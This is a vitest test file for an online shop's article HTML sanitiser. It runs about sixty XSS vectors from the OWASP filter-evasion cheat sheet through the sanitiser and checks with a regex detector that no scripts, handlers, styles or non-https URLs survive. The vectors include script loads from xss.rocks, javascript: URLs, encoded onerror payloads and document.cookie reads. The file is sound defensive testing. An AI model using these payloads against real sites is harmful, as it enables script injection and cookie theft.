import { describe, expect, it } from 'vitest';
import { sanitizeArticleHtml, textOf } from '../../../../server/commerce/content/sanitize.ts';

/**
 * Vectors from the OWASP XSS Filter Evasion Cheat Sheet
 * (cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html). Whatever survives
 * must hold no script, no handler, no non-https URL, no style.
 */
const OWASP_VECTORS = [
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav	ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<A HREF="http://66.102.7.147/">XSS</A>`,
  `<A HREF="//www.google.com/">XSS</A>`,
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<a href="&#x6A;avascript:alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><button formaction="javascript:alert(1)">x</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<p style="position:fixed;top:0">cover</p>`,
];

/** Anything that could run or load outside https once the output is placed in a page. */
function dangerous(html: string): string | null {
  const lower = html.toLowerCase();
  if (
    /<\s*(script|style|iframe|frame|object|embed|svg|math|link|meta|base|form|input|button|body|table|details)\b/.test(
      lower,
    )
  )
    return 'tag';
  if (/\son[a-z]+\s*=/.test(lower)) return 'handler';
  if (/\sstyle\s*=/.test(lower)) return 'style';
  for (const match of lower.matchAll(/\s(href|src)\s*=\s*"([^"]*)"/g)) {
    const url = match[2] ?? '';
    if (!url.startsWith('https://') && !/^\/images\/articles\/\d+\/[\w-]{32}$/.test(url)) return `url ${url}`;
  }
  return null;
}

describe('the article sanitiser', () => {
  it.each(OWASP_VECTORS)('leaves nothing dangerous of %s', (vector) => {
    const clean = sanitizeArticleHtml(vector);
    expect(dangerous(clean)).toBeNull();
    // and it is stable: sanitising the output again changes nothing
    expect(sanitizeArticleHtml(clean)).toBe(clean);
  });

  it('keeps the allowed formatting, https links (made safe to open) and images', () => {
    expect(
      sanitizeArticleHtml(
        '<h2>Гарчиг</h2><p><strong>Тод</strong> <em>налуу</em></p><ul><li>нэг</li></ul>' +
          '<a href="https://shop.mn/a" rel="opener" target="_self">холбоос</a><img src="https://cdn.shop.mn/a.jpg" alt="зураг">',
      ),
    ).toBe(
      '<h2>Гарчиг</h2><p><strong>Тод</strong> <em>налуу</em></p><ul><li>нэг</li></ul>' +
        '<a href="https://shop.mn/a" rel="nofollow noopener noreferrer" target="_blank">холбоос</a>' +
        '<img src="https://cdn.shop.mn/a.jpg" alt="зураг" />',
    );
  });

  it('drops http and relative links but keeps their text; drops images from elsewhere', () => {
    expect(sanitizeArticleHtml('<a href="http://x.mn">а</a><a href="/cart">б</a>')).toBe(
      '<a rel="nofollow noopener noreferrer" target="_blank">а</a><a rel="nofollow noopener noreferrer" target="_blank">б</a>',
    );
    expect(sanitizeArticleHtml('<img src="http://x.mn/a.png"><img src="/images/avatars/1/x">')).toBe('');
  });

  it('reads text out of HTML for search and summaries, scripts left out', () => {
    expect(textOf('<p>Сайн &amp; байна</p><p>уу<script>alert(1)</script></p>')).toBe('Сайн & байна уу');
  });
});
